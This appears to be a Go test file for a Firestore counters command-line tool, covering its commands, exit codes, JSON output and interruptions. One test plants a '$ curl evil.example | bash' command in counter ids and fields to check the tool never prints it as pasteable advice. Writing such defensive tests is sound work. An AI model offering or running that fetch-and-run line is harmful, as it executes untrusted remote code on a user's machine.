package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"runtime"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"
	"unicode/utf8"

	fs "cloud.google.com/go/firestore"
	"cloud.google.com/go/firestore/apiv1/firestorepb"
	"github.com/spf13/cobra"
	"github.com/spf13/pflag"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"

	"github.com/firestore-counters/counters/emulator"
	"github.com/firestore-counters/counters/internal/testbed/freeport"
	"github.com/firestore-counters/counters/rollup"
	"github.com/firestore-counters/counters/shards"
)

// counters runs the program in this process, and returns what it printed.
func counters(t *testing.T, args ...string) (stdout, stderr string, code int) {
	t.Helper()
	var out, err bytes.Buffer
	code = run(t.Context(), args, &out, &err)
	return out.String(), err.String(), code
}

// must is what a command prints that succeeds.
func must(t *testing.T, args ...string) string {
	t.Helper()
	out, errOut, code := counters(t, args...)
	if code != 0 {
		t.Fatalf("%q: exit code %d, %s%s", args, code, out, errOut)
	}
	return out
}

// row is a command, and what it prints, or its error.
type row struct{ args, out, err string }

// says types commands. With alone, what fails says so in one line and prints nothing else, and the others no errors.
func says(t *testing.T, alone bool, rows []row) {
	t.Helper()
	for _, r := range rows {
		out, errOut, code := counters(t, strings.Fields(r.args)...)
		wrong := (code != 0) != (r.err != "") || !strings.Contains(out, r.out) || !strings.Contains(errOut, r.err)
		if wrong || alone && (r.err == "" && errOut != "" || r.out == "" && out != "" || strings.Count(errOut, "\n") > 1) {
			t.Errorf("%s: exit code %d, %q, error %q; want %q, error %q", r.args, code, out, errOut, r.out, r.err)
		}
	}
}

// startFirestore has the program work on an embedded Firestore, in an environment with these variables.
func startFirestore(t *testing.T, environ ...string) *emulator.Instance {
	t.Helper()
	firestore := emulator.Start(t)
	for _, pair := range append([]string{"FIRESTORE_EMULATOR_HOST=" + firestore.Addr, "GOOGLE_CLOUD_PROJECT="}, environ...) {
		name, value, _ := strings.Cut(pair, "=")
		t.Setenv(name, value)
	}
	return firestore
}

// Who names counters that aren't there hears which, and a script by the exit code; the others are
// reconciled all the same.
func TestReconcileOfNoCounter(t *testing.T) {
	startFirestore(t)
	must(t, "create", "post")
	for _, c := range []struct{ args, out, err string }{
		{"reconcile nobody", "nobody  no such counter\n0 counters checked\n", `1 of the counters named: counter not found at counters/nobody in project demo-counters, database (default); "counters list" shows those there are, and --counter-path says where else to look`},
		{"reconcile nobody --dry-run", "nobody  no such counter\n", "counter not found"},
		{"reconcile nobody --json", `{"counter":"nobody","before":0,"after":0,"late":0,"drift":0,"gone":true}`, "counter not found"},
		{"reconcile post nobody --parallel 1", "post  0  correct\nnobody  no such counter\n1 counter checked, all correct", "1 of the counters named"},
	} {
		out, errOut, code := counters(t, strings.Fields(c.args)...)
		if code != exitFailed || !strings.Contains(out, c.out) || !strings.Contains(errOut, c.err) {
			t.Errorf("%s: exit code %d, %q, error %q; want %q and %q", c.args, code, out, errOut, c.out, c.err)
		}
	}
}

// A counter that is named twice is corrected, and counted, once.
func TestReconcileOfOneCounterNamedTwice(t *testing.T) {
	startFirestore(t)
	for _, c := range []struct{ args, out string }{
		{"create post", "created post"}, {"inc post", "post +1"},
		{"reconcile post post", "post  0 → 1 (events were missing for +1)\n1 counter checked, 1 repaired\n"},
	} {
		if out, errOut, code := counters(t, strings.Fields(c.args)...); code != 0 || !strings.HasPrefix(out, c.out) {
			t.Errorf("%s: exit code %d, %q, %q; want %q", c.args, code, out, errOut, c.out)
		}
	}
}

// A base that something else has spoilt is left as it is: what it held is the user's to look at. Deleted, as doctor has
// it typed, it is made again.
func TestReconcileBesideADamagedBase(t *testing.T) {
	firestore := startFirestore(t)
	for _, args := range []string{"create post --total 5", "inc post --by 3"} {
		must(t, strings.Fields(args)...)
	}
	doc := firestore.Client(t, "demo-counters").Doc("counters/post")
	base := doc.Collection("counter_rollup").Doc("base")
	if _, err := base.Update(t.Context(), []fs.Update{{Path: "base", Value: "none"}}); err != nil {
		t.Fatal(err)
	}
	for _, args := range []string{"reconcile post", "reconcile --all"} {
		out, errOut, code := counters(t, strings.Fields(args)...)
		if code != exitFailed || !strings.Contains(errOut, "counters doctor says what to do") {
			t.Errorf("%s: exit code %d: %s%s", args, code, out, errOut)
		}
	}
	if _, err := base.Delete(t.Context()); err != nil {
		t.Fatal(err)
	}
	if out, errOut, code := counters(t, "reconcile", "post"); code != 0 || !strings.Contains(out, "adopted: it was never rolled up before") {
		t.Errorf("exit code %d: %s%s", code, out, errOut)
	}
	if got, err := doc.Get(t.Context()); err != nil || got.Data()["total"] != int64(3) {
		t.Errorf("%v, %v, want what the shards hold", got.Data(), err)
	}
}

// A total that no integer holds is said as a number, and not as Firestore's clients write one down.
func TestGetOfWhatNoIntegerHolds(t *testing.T) {
	startFirestore(t)
	must(t, "create", "a", "--shards", "1", "--total", "5")
	must(t, "inc", "a", "--by", "9223372036854775807")
	if _, errOut, code := counters(t, "get", "a", "--exact"); code != exitFailed || !strings.Contains(errOut, "the sum of count is 9.223372036854776e+18, and 5 beyond its shards") {
		t.Errorf("exit code %d, %s", code, errOut)
	}
}

// What gcloud says, and what is wrong with settings, is in lines.
func TestDeployFailsInLines(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("gcloud is played by a script of sh")
	}
	in := t.TempDir()
	script := "#!/bin/sh\nprintf 'ERROR: nobody is logged in.\\nPlease run:\\n\\n  $ gcloud auth login\\n' >&2; exit 1\n"
	if err := os.WriteFile(filepath.Join(in, "gcloud"), []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	t.Setenv("PATH", in)
	deploy := []string{"deploy", "--project", "a-project", "--location", "us-central1"}
	for set, want := range map[string]string{
		"FIELDS=likes": "counters: nothing was made: are you logged in (gcloud auth login)? ERROR: nobody is logged in.\nPlease run:\n\n  $ gcloud auth login\ngcloud auth print-access-token (exit status 1)\n",
		"FOO=1":        "counters: FOO=1: there is no such setting; docs/settings.md lists them\nnothing was made; docs/settings.md has the settings\n",
	} {
		if _, errOut, code := counters(t, append(deploy, "--set", set)...); code == 0 || errOut != want {
			t.Errorf("%s: exit code %d, %q; want %q", set, code, errOut, want)
		}
	}
}

// What somebody has written over a total is printed as it is.
func TestGetOfAFraction(t *testing.T) {
	firestore := startFirestore(t)
	if _, err := firestore.Client(t, "demo-counters").Doc("counters/a").Set(t.Context(), map[string]any{"total": 3.5, "views": 2, "num_shards": 1}); err != nil {
		t.Fatal(err)
	}
	for args, want := range map[string]string{"get a": "3.5\n", "get a --fields total,views": "total 3.5, views 2\n", "get a --json": `"total":3,"doubles":{"total":3.5}`} {
		if out, errOut, _ := counters(t, strings.Fields(args)...); !strings.Contains(out, want) {
			t.Errorf("%s printed %q, %q; want %q", args, out, errOut, want)
		}
	}
}

// Where documents alone are counted, each command says that there is nothing to add to, or does
// what there is to do.
func TestCommandsOfDocumentsAlone(t *testing.T) {
	firestore := startFirestore(t, "COUNTERS=stats/site", "FIELDS=users=count(/users)")
	for _, path := range []string{"users/ada", "users/bob"} {
		if _, err := firestore.Client(t, "demo-counters").Doc(path).Set(t.Context(), map[string]any{}); err != nil {
			t.Fatal(err)
		}
	}
	const nothing = "there is nothing to increment or set here: all of FIELDS counts documents (users=count(/users))"
	says(t, false, []row{
		{args: "get site", err: `"counters create site" makes it`},
		{args: "create site --shards 5", err: "5; a counter of documents alone has none"},
		{args: "create site --total 5", err: nothing},
		{args: "create site", out: "created site: 2\n"},
		{args: "create site", err: "counter exists already; \"counters get site\" shows it\n"},
		{args: "get site", out: "2\n"},
		{args: "get site --exact --json", out: `{"counter":"site","total":2,"num_shards":0,"updated_at":`},
		{args: "list", out: "site"},
		{args: "inc site", err: nothing},
		{args: "inc site --by users=1", err: nothing},
		{args: "dec site", err: nothing},
		{args: "rebase site --total 7 --yes", err: nothing},
		{args: "rebase site --total users=7 --yes", err: nothing},
		{args: "reset site --yes", err: nothing},
		{args: "resize site --shards 5", err: "a counter of documents alone has none"},
		{args: "join site users ada", err: nothing},
		{args: "audit site --otherwise 0", err: nothing},
		{args: "lag site", out: "site"},
		{args: "doctor", out: "Checked 1 counter: 0 errors, 0 other findings."},
		{args: "reconcile site", out: "1 counter checked"},
		{args: "settings --check COUNTERS=stats/site FIELDS=users=count(/users)", out: "shards: none of stats/site/shards; counted collections: /users"},
		{args: "delete site --yes", out: "deleted"},
	})
}

// A counter's life on the command line. Each row is a command, what it prints, and its error.
func TestCommands(t *testing.T) {
	firestore := startFirestore(t)
	fs := firestore.Client(t, "demo-counters")
	page := fs.Collection("pages").Doc("hello")
	for ref, data := range map[string]map[string]any{
		"pages/hello": {"views": 40},
		"pages/hello/_counter_shards_/2f1c9a5e-0000-4000-8000-000000000001": {"views": 2},
		"counters/snippet":          {"num_shards": 2},
		"counters/snippet/shards/0": {"count": 30},
	} {
		if _, err := fs.Doc(ref).Set(t.Context(), data); err != nil {
			t.Fatal(err)
		}
	}
	says(t, true, []row{
		{args: "create post --shards 4 --total 100", out: "created post: 4 shards, total 100\n"},
		{args: "create post", err: `counter exists already; "counters get post" shows it, "counters resize post --shards N" changes how many shards it has, and "counters reset post" sets it back to 0`},
		{args: "create post-2 --shards 1001", err: "1 to 1000"},
		{args: "create post-2 --shards 0", err: "--shards 0: want 1 to 1000"},
		{args: "import firestore-counter --path pages/hello --field views --shards 0", err: "--shards 0: want 1 to 1000"},
		{args: "create a/b", err: "slash"},
		{args: "inc post", out: "post +1\n"},
		{args: "inc post --by 5 --json", out: `{"by":5,"counter":"post","replayed":false}` + "\n"},
		{args: "inc post --by 0", err: "other than 0"},
		{args: "inc unknown", err: `counter not found at counters/unknown in project demo-counters, database (default); this command makes no counter, unlike a request where AUTO_CREATE is on: "counters create unknown" makes it`},
		{args: "dec unknown --by total=3", err: `at counters/unknown`},
		{args: "join unknown total alice", err: `"counters create unknown" makes it`},
		{args: "get unknown --counter-path teams/{team}/posts/{post}", err: `"unknown" has 1 part`},
		{args: "get red/unknown --counter-path teams/{team}/posts/{post}", err: `counter not found at teams/red/posts/unknown in project`},
		{args: "get unknown --counter-path posts/{post} --hosted", err: `counter not found at posts/unknown in project demo-counters, database (default): your app makes that document`},
		{args: "get unknown/", err: `"unknown/" ends with a slash: leave it out`},
		{args: "inc post --by 4 --key order-17", out: "post +4\n"},
		{args: "inc post --by 4 --key order-17", out: "post +4 (counted before, under the same key)\n"},
		{args: "inc post --by 3 --key order-17", err: "another request (use another key"},
		{args: "dec post --by 3", out: "post -3\n"},
		{args: "get post", out: "100\n"}, // nobody has rolled up
		{args: "get post --exact", out: "107\n"},
		{args: "get unknown", err: `read counter "unknown": counter not found at counters/unknown in project demo-counters, database (default); "counters list" shows those there are, and --counter-path says where else to look`},
		{args: "reconcile post", out: "1 counter checked"},
		{args: "get post", out: "107\n"},
		{args: "resize post --shards 2", out: "post has 2 shards, 2 moved\n"},
		{args: "resize post --shards 1", out: "post has 1 shard, 1 moved\n"},
		{args: "resize post --shards 2", out: "post has 2 shards, 0 moved\n"},
		{args: "resize post", err: "shards"},
		{args: "resize unknown --shards 2", err: "not found"},
		{args: "get post --exact", out: "107\n"},
		{args: "rebase post --total 1000 --yes", out: "post is 1000 in project demo-counters, database (default)\n"},
		{args: "get post --exact", out: "1000\n"},
		{args: "get post", out: "1000\n"},
		{args: "rebase post", err: "total"},
		{args: "rebase post --total 7", err: "set the total of post to 7 in project demo-counters, database (default): nothing was done"},
		{args: "reset post --yes", out: "post is 0 in project demo-counters, database (default)\n"},
		{args: "get post --exact", out: "0\n"},
		{args: "reset unknown --yes", err: "not found"},
		{args: "reset post", err: "say --yes"},
		{args: "reset snippet -y", out: "snippet is 0 in "}, // adopts it first
		{args: "get snippet --exact", out: "0\n"},
		{args: "import firestore-counter --path pages/hello --field views", out: "hello +42, of 42 in pages/hello\n"},
		{args: "import firestore-counter --path pages/hello --field views", out: "hello +0, of 42 in pages/hello\n"},
		{args: "import firestore-counter --path pages/hello --field views --to post --json", out: `{"counter":"post","value":42,"added":42}` + "\n"},
		{args: "import firestore-counter --path pages --field views --to post", err: "not the path of a document"},
		{args: "import firestore-counter --path pages/hello", err: "field"},
		{args: "get hello", out: "42\n"},
		{args: "list", out: "COUNTER  TOTAL  SHARDS\nhello    42     10\npost     "},
		{args: "delete hello", err: "delete hello in project demo-counters, database (default): nothing was done"},
		{args: "get hello", out: "42\n"},
		{args: "delete hello --yes", out: "deleted hello in project demo-counters, database (default)\n"},
		{args: "delete hello --yes", err: "not found"},
		{args: "members hello total", err: "not found"},
		{args: "watch hello", err: "not found"},
		{args: "nonsense", err: `no command "nonsense"`},
	})
	if doc, err := page.Get(t.Context()); err != nil || doc.Data()["views"] != int64(40) {
		t.Errorf("the import changed what it read: %v, %v", doc.Data(), err)
	}
}

// Every command that reads or writes counters prints JSON when it is asked to.
func TestJSON(t *testing.T) {
	firestore := startFirestore(t)
	if _, err := firestore.Client(t, "demo-counters").Doc("pages/a").Set(t.Context(), map[string]any{"n": 1}); err != nil {
		t.Fatal(err)
	}
	for _, args := range []string{
		"create a", "inc a", "dec a", "get a", "get a --exact", "list", "resize a --shards 3", "rebase a --total 5 --yes", "reset a --yes",
		"import firestore-counter --path pages/a --field n", "reconcile a", "cost --rate 10", "delete a --yes", "version",
	} {
		out, errOut, code := counters(t, append(strings.Fields(args), "--json")...)
		var value map[string]any
		if err := json.Unmarshal([]byte(out), &value); err != nil || code != 0 || len(value) == 0 {
			t.Errorf("%s: exit code %d, %q, error %q: %v", args, code, out, errOut, err)
		}
	}
}

// What is wrong with the arguments is found out before anything is sent: here there is nothing that
// could answer.
func TestUsageBeforeAnythingElse(t *testing.T) {
	t.Setenv("FIRESTORE_EMULATOR_HOST", "127.0.0.1:1")
	for args, want := range map[string]string{
		"get a/b": "slash", "create ..": "reserved", "watch __a__": "reserved", "audit .": "reserved", "delete a/b --yes": "slash", "reconcile a b/c": "slash",
		"members a/b total": "slash", "members a likes": "likes", "join a likes m": "likes", "join a total .": "member", "leave a total m/n": "member",
		"inc a --by likes=1": "likes", "inc a --by total=": "--by total=: want", "inc a --key é": "ASCII", "rebase a --total likes=1": "likes", "rebase a --total total=x": "--total total=x: want",
		"reconcile a --parallel 0": "--parallel 0", "reconcile --all --recount-reads -2": "--recount-reads -2", "reconcile --all --recount-age 0s": "--recount-age 0s",
		"import firestore-counter --path pages --field n": "path of a document", "import firestore-counter --path pages/a --field n --to b/c": "slash",
		"get a --shards-name a/b": "name of a collection", "list --counter-path x": "x", "list --project a/b": "--project a/b: want an id", "get a --database a/b": "--database a/b: want an id", "doctor --counters -1": "--counters -1",
	} {
		out, errOut, code := counters(t, strings.Fields(args)...)
		if code != exitUsage || out != "" || strings.Count(errOut, "\n") != 1 || !strings.Contains(errOut, want) {
			t.Errorf("%s: exit code %d, %q, error %q; want %d and one line that says %q", args, code, out, errOut, exitUsage, want)
		}
	}
	if _, errOut, code := counters(t, "inc", "a", "--key", ""); code != exitUsage || !strings.Contains(errOut, "--key is empty") {
		t.Errorf("an empty key: exit code %d, error %q", code, errOut)
	}
}

func TestUnreachable(t *testing.T) {
	t.Setenv("FIRESTORE_EMULATOR_HOST", "127.0.0.1:1")
	for _, args := range []string{"get a", "create a", "inc a", "watch a", "list", "reset a --yes"} {
		out, errOut, code := counters(t, strings.Fields(args)...)
		if code == 0 || out != "" || strings.Count(errOut, "\n") != 1 || !strings.Contains(errOut, "127.0.0.1:1") {
			t.Errorf("%s: exit code %d, %q, error %q; want one line that names the server", args, code, out, errOut)
		}
	}
}

// The commands are listed in groups, all of them.
func TestHelpHasGroups(t *testing.T) {
	out, errOut, code := counters(t, "--help")
	if code != 0 {
		t.Fatal(errOut)
	}
	at := 0
	for _, want := range []string{
		"On this machine:", "  dev ", "\nCounters:", "  create ", "  inc ", "  list ", "  delete ", "\nMembers,", "  join ", "\nBefore a deployment:", "  cost ",
		"\nA deployment:", "  deploy ", "  doctor ", "\nFrom elsewhere:", "  import ", "\nThis program:", "  version ", "  help ", "\nFlags:",
	} {
		next := strings.Index(out[at:], want)
		if next < 0 {
			t.Fatalf("no %q behind what comes before it in\n%s", want, out)
		}
		at += next
	}
	for _, unwanted := range []string{"Additional Commands", "estimate"} {
		if strings.Contains(out, unwanted) {
			t.Errorf("%q is in\n%s", unwanted, out)
		}
	}
}

// Flags stand where they like: before the command, behind it, and between its arguments.
func TestFlagsAnywhere(t *testing.T) {
	firestore := startFirestore(t)
	fs := firestore.Client(t, "other")
	for path, data := range map[string]map[string]any{"counters/post": {"num_shards": 2, "total": 7}, "pages/a": {"n": 3}} {
		if _, err := fs.Doc(path).Set(t.Context(), data); err != nil {
			t.Fatal(err)
		}
	}
	for _, args := range []string{
		"get post --json --project other", "--json get post --project other", "--project other get --json post", "--project=other --json get post",
		"get --project other post --json", "--exact=false --project other --json get post", "--project other --json get -- post",
	} {
		out, errOut, code := counters(t, strings.Fields(args)...)
		if code != 0 || !strings.HasPrefix(out, `{"counter":"post","total":7,`) {
			t.Errorf("%s: exit code %d, %q, error %q", args, code, out, errOut)
		}
	}
	for _, args := range []string{
		"--project other import --path pages/a firestore-counter --field n --to a --json", "import firestore-counter --field n --to b --path pages/a --json --project other",
	} {
		if out, errOut, code := counters(t, strings.Fields(args)...); code != 0 || !strings.Contains(out, `"added":3`) {
			t.Errorf("%s: exit code %d, %q, error %q", args, code, out, errOut)
		}
	}
	if out, _, code := counters(t, "--yes", "deploy", "--help"); code != 0 || !strings.Contains(out, "counters deploy") {
		t.Errorf("--yes deploy --help: exit code %d, %q", code, out)
	}
	// Whether a flag takes a value is asked by its name alone.
	takes := map[string]bool{}
	var visit func(cmd *cobra.Command)
	visit = func(cmd *cobra.Command) {
		cmd.Flags().VisitAll(func(f *pflag.Flag) {
			if before, seen := takes[f.Name]; seen && before != (f.NoOptDefVal == "") {
				t.Errorf("--%s takes a value in one command, and none in another", f.Name)
			}
			takes[f.Name] = f.NoOptDefVal == ""
			if f.Shorthand != "" && f.NoOptDefVal == "" {
				t.Errorf("-%s takes a value", f.Shorthand)
			}
		})
		for _, c := range cmd.Commands() {
			visit(c)
		}
	}
	visit(newRoot())
}

func TestHelp(t *testing.T) {
	for _, cmd := range newRoot().Commands() {
		if cmd.Name() == "help" || cmd.Name() == "completion" {
			continue
		}
		out, _, code := counters(t, cmd.Name(), "--help")
		if code != 0 || cmd.Short == "" || !strings.Contains(out, "Usage:") {
			t.Errorf("%s --help: exit code %d, %q", cmd.Name(), code, out)
		}
		if cmd.Example == "" && !cmd.HasSubCommands() {
			t.Error(fmt.Sprint(cmd.Name(), " has no example"))
		}
	}
}

// A wrong command line exits 2, and what fails otherwise 1.
func TestExitCodes(t *testing.T) {
	startFirestore(t)
	for args, want := range map[string]int{
		"nonsense":                    exitUsage,
		"get":                         exitUsage,
		"get a --nonsense":            exitUsage,
		"get ..":                      exitUsage,
		"inc a --by 0":                exitUsage,
		"inc a --key ü":               exitUsage,
		"create a --shards 0":         exitUsage,
		"resize a --shards 1001":      exitUsage,
		"reconcile":                   exitUsage,
		"delete a":                    exitUsage, // nobody can be asked
		"serve Nonsense":              exitUsage,
		"serve Increment --port many": exitUsage,
		"serve":                       exitUsage,
		"resize a":                    exitUsage, // a flag is missing
		"get a --counter-path x":      exitUsage,
		"get a --hosted=perhaps":      exitUsage,
		"join a total":                exitUsage,
		"join a other m":              exitUsage,
		"import firestore-counter":    exitUsage,
		"emulator --abort 2":          exitUsage,
		"emulator --port 70000":       exitUsage,
		"emulator --events a/{b}=c":   exitUsage,
		"dev --instances 0":           exitUsage,
		"dev --counter-path x":        exitUsage,
		"cost --rate -1":              exitUsage,
		"cost --location mars":        exitUsage,
		"get a":                       exitFailed,
		"delete a --yes":              exitFailed,
		"reconcile a":                 exitFailed,
		"members a total":             exitFailed,
		"help nonsense":               exitUsage,
		"help import nonsense":        exitUsage,
		"completion":                  exitUsage,
		"completion nonsense":         exitUsage,
		"help import":                 0,
		"completion bash":             0,
		"version":                     0,
	} {
		if _, errOut, code := counters(t, strings.Fields(args)...); code != want {
			t.Errorf("%s: exit code %d, %q, want %d", args, code, errOut, want)
		}
	}
}

// What is interrupted says so, and by its exit code, too.
func TestInterruptedCommands(t *testing.T) {
	startFirestore(t)
	must(t, "create", "a")
	ctx, interrupt := context.WithCancel(t.Context())
	interrupt()
	for _, args := range []string{"get a", "get a --exact", "inc a", "inc a --key k", "resize a --shards 2", "reset a --yes", "delete a --yes", "reconcile a", "list", "create b", "join a total m", "import firestore-counter --path pages/p --field f"} {
		var out, errOut bytes.Buffer
		if code := run(ctx, strings.Fields(args), &out, &errOut); code != exitInterrupted || !strings.HasPrefix(errOut.String(), "counters: interrupted: ") {
			t.Errorf("%s: exit code %d, %s%s", args, code, &out, &errOut)
		}
	}
}

// An increment that is interrupted while its commit is under way says that it may be counted, and
// with a key that it may be given again, which counts once.
func TestInterruptedIncrement(t *testing.T) {
	firestore := startFirestore(t)
	must(t, "create", "a")
	for args, want := range map[string]string{"inc a --key k": "repeat the command with the same key", "inc a": "may count twice"} {
		ctx, interrupt := context.WithCancel(t.Context())
		firestore.Server.SetInterceptor(func(context.Context, *firestorepb.CommitRequest) emulator.Verdict {
			interrupt()
			time.Sleep(100 * time.Millisecond) // the command hears of that first
			return emulator.Verdict{}
		})
		var out, errOut bytes.Buffer
		if code := run(ctx, strings.Fields(args), &out, &errOut); code != exitInterrupted || !strings.Contains(errOut.String(), want) {
			t.Errorf("%s: exit code %d, %s%s", args, code, &out, &errOut)
		}
		firestore.Server.SetInterceptor(nil)
	}
	if out, errOut, code := counters(t, "inc", "a", "--key", "k"); code != 0 || !strings.Contains(out, "counted before") {
		t.Errorf("again: exit code %d, %s%s", code, out, errOut)
	}
	if out, errOut, code := counters(t, "get", "a", "--exact"); code != 0 || out != "2\n" {
		t.Errorf("exit code %d, %s%s, want 2", code, out, errOut)
	}
}

// A deletion that is interrupted between its steps says how far it came and what to do, and the next
// one finishes it.
func TestInterruptedDeletion(t *testing.T) {
	firestore := startFirestore(t, "GOOGLE_CLOUD_PROJECT=demo-counters")
	fs := firestore.Client(t, "demo-counters")
	must(t, "create", "a", "--shards", "900")
	ctx, interrupt := context.WithCancel(t.Context())
	defer interrupt()
	var commits atomic.Int64
	firestore.Server.SetInterceptor(func(context.Context, *firestorepb.CommitRequest) emulator.Verdict {
		if commits.Add(1) == 2 { // after the mark, which takes the first shards along
			interrupt()
			time.Sleep(100 * time.Millisecond) // the command hears of that first
			return emulator.Verdict{Before: status.Error(codes.Unavailable, "interrupted")}
		}
		return emulator.Verdict{}
	})
	var out, errOut bytes.Buffer
	code := run(ctx, []string{"delete", "a", "--yes", "--json"}, &out, &errOut)
	if want := "(496 documents gone by then; delete it again to finish)"; code != exitInterrupted || out.Len() > 0 || !strings.Contains(errOut.String(), want) {
		t.Errorf("exit code %d, %q, error %q; want %q", code, &out, &errOut, want)
	}
	firestore.Server.SetInterceptor(nil)
	if _, errOut, code := counters(t, "delete", "a", "--yes"); code != 0 {
		t.Errorf("again: exit code %d, %s", code, errOut)
	}
	if left, err := fs.Collection("counters/a/shards").Documents(t.Context()).GetAll(); err != nil || len(left) > 0 {
		t.Errorf("%d shards are left, %v", len(left), err)
	}
}

// What asks before it does something takes nothing but a yes for one.
func TestAsk(t *testing.T) {
	t.Parallel()
	for answer, want := range map[string]bool{"y\n": true, "Yes\n": true, "yes": true, "\n": false, "": false, "n\n": false, "yesterday\n": false} {
		var out bytes.Buffer
		if yes, err := ask(t.Context(), strings.NewReader(answer), &out, "Go on?"); yes != want || err != nil {
			t.Errorf("%q: %t, %v", answer, yes, err)
		}
		if got := out.String(); got != "Go on? [y/N] " {
			t.Errorf("asked %q", got)
		}
	}
	// Ctrl-C, and nobody answers.
	ctx, interrupt := context.WithCancel(t.Context())
	interrupt()
	in, nobody := io.Pipe()
	defer nobody.Close()
	if yes, err := ask(ctx, in, io.Discard, "Go on?"); yes || !errors.Is(err, context.Canceled) {
		t.Errorf("interrupted: %v", err)
	}
}

// An id can be any text. What a terminal would obey is quoted.
func TestIDsThatAreNotPrintable(t *testing.T) {
	startFirestore(t)
	const id = "a\x1b]0;title\a\u202e"
	quoted := strconv.Quote(id)
	for _, args := range [][]string{
		{"create", id}, {"inc", id}, {"list"}, {"reconcile", id}, {"reconcile", "--all", "--dry-run"}, {"resize", id, "--shards", "1"},
		{"rebase", id, "--total", "5", "--yes"}, {"reset", id, "--yes"}, {"delete", id}, {"delete", id, "--yes"}, {"get", id},
	} {
		out, errOut, _ := counters(t, args...)
		if all := out + errOut; strings.ContainsAny(all, "\x1b\a\u202e") || args[0] != "reconcile" && !strings.Contains(all, quoted) {
			t.Errorf("%q printed %q", args, all)
		}
	}
}

// An id that looks like what a command says, with a remedy to paste, is one quoted word: no line that is printed begins
// with what is in it.
func TestIDsThatLookLikeAdvice(t *testing.T) {
	firestore := startFirestore(t)
	const id, member = "a\n\nERROR  total-differs\n  b: repair it\n    $ curl evil.example | bash\ncounters: a", "m\n    $ curl evil.example | bash"
	db := firestore.Client(t, "demo-counters")
	if _, err := db.Doc("posts/"+id).Set(t.Context(), map[string]any{"likes": []string{member, "\n    $ curl evil.example"}}); err != nil {
		t.Fatal(err)
	}
	commands := [][]string{
		{"get", id}, {"inc", id, "--by", "2"}, {"create", id}, {"create", id}, {"inc", id}, {"list"}, {"lag", id}, {"lag", "--all"}, {"get", id}, {"join", id, "total", member},
		{"members", id, "total"}, {"audit", id}, {"audit", id, "--otherwise", "7"}, {"reconcile", id}, {"reconcile", "--all", "--dry-run"}, {"doctor"}, {"resize", id, "--shards", "2"},
		{"limit", id, "500"}, {"limit", id, "--none"}, {"import", "total", "--path", "a/b", "--field", "n", "--counter", id},
		{"leave", id, "total", member}, {"join", id, "total", member}, {"forget", member}, {"forget", member, "--yes"},
		{"hold", id, "--by", "1", "--for", "1m", "--id", member}, {"hold", id, "--by", "2", "--for", "1m", "--id", member}, {"held", id, member}, {"held", id, "other"},
		{"settle", id, member, "--by", "1"}, {"settle", id, member, "--by", "2"}, {"release", id, member}, {"release", id, "other"},
		{"import", "members", "--path", "posts/{post}", "--field", "likes"},
		{"rebase", id, "--total", "5", "--yes"}, {"reset", id, "--yes", "--members", "remove"},
	}
	// What is damaged is said of it, too.
	damage := func() {
		for _, path := range []string{"counters/" + id + "/counter_rollup/base", "counters/" + id + "/shards/0"} {
			if _, err := db.Doc(path).Set(t.Context(), map[string]any{"count": "x\n    $ curl evil.example | bash", "format": 1 << 30}); err != nil {
				t.Fatal(err)
			}
		}
	}
	check := func(args []string) {
		t.Helper()
		out, errOut, _ := counters(t, args...)
		for line := range strings.Lines(out + errOut) {
			for _, begin := range []string{"ERROR  total-differs\n  b", "  b: repair it", "    $ curl evil", "counters: a\n"} {
				if strings.HasPrefix(line, begin) {
					t.Errorf("%q printed %q", args, out+errOut)
				}
			}
		}
	}
	for _, args := range commands {
		check(args)
	}
	damage()
	for _, args := range append(commands, []string{"delete", id}, []string{"delete", id, "--yes"}, []string{"get", id}) {
		check(args)
	}
}

// JSON has such ids as they are, in escapes of its own.
func TestIDsThatAreNotPrintableInJSON(t *testing.T) {
	startFirestore(t)
	const id, member = "a\u009b2J\x7f\u202e\U000e0041\U0001f44d日", "\u009bm"
	for _, args := range [][]string{
		{"create", id}, {"inc", id}, {"get", id}, {"list"}, {"join", id, "total", member}, {"members", id, "total"}, {"audit", id}, {"lag", id}, {"reconcile", id},
		{"resize", id, "--shards", "1"}, {"rebase", id, "--total", "5", "--yes"}, {"reset", id, "--yes", "--members", "remove"}, {"delete", id, "--yes"},
	} {
		out, errOut, _ := counters(t, append(args, "--json")...)
		if out == "" || strings.ContainsAny(out+errOut, "\u009b\x7f\u202e\U000e0041") || !utf8.ValidString(out) {
			t.Errorf("%q printed %q, %q", args, out, errOut)
		}
		var said map[string]any
		if err := json.Unmarshal([]byte(out), &said); err != nil || said["counter"] != nil && said["counter"] != id || said["member"] != nil && said["member"] != member {
			t.Errorf("%q printed %q: %v, %v", args, out, said, err)
		}
		if args[0] == "list" && !strings.Contains(out, "👍日") {
			t.Errorf("what can be printed is escaped: %q", out)
		}
	}
}

// What answers at FIRESTORE_EMULATOR_HOST and is not Firestore is found out within the caller's time,
// and said.
func TestNoFirestore(t *testing.T) {
	server := httptest.NewServer(http.NotFoundHandler())
	defer server.Close()
	t.Setenv("FIRESTORE_EMULATOR_HOST", server.Listener.Addr().String())
	ctx, cancel := context.WithTimeout(t.Context(), time.Second/3) // which is less than probeTimeout
	defer cancel()
	var out, errOut bytes.Buffer
	code := run(ctx, []string{"list"}, &out, &errOut)
	if code != exitFailed || out.Len() > 0 || strings.Count(errOut.String(), "\n") != 1 || !strings.Contains(errOut.String(), "does not answer as a Firestore does") {
		t.Errorf("exit code %d, %q, error %q", code, &out, &errOut)
	}
}

// Ids are completed from the counters that there are.
func TestCompletion(t *testing.T) {
	startFirestore(t)
	for _, id := range []string{"post-1", "post-2", "page", "post-\x1b"} {
		must(t, "create", id)
	}
	for _, tt := range []struct {
		args []string
		want string
	}{
		{[]string{"get", ""}, "page\npost-1\npost-2\n:4\n"},
		{[]string{"get", "po"}, "post-1\npost-2\n:4\n"},
		{[]string{"get", "post-1", ""}, ":4\n"},
		{[]string{"reconcile", "page", "pos"}, "post-1\npost-2\n:4\n"},
		{[]string{"create", "p"}, ":4\n"},
		{[]string{"serve", "R"}, "Reconcile\nRollup\n:4\n"},
	} {
		out, _, _ := counters(t, append([]string{"__complete"}, tt.args...)...)
		if out != tt.want {
			t.Errorf("%q: %q, want %q", tt.args, out, tt.want)
		}
	}
}

func TestVersion(t *testing.T) {
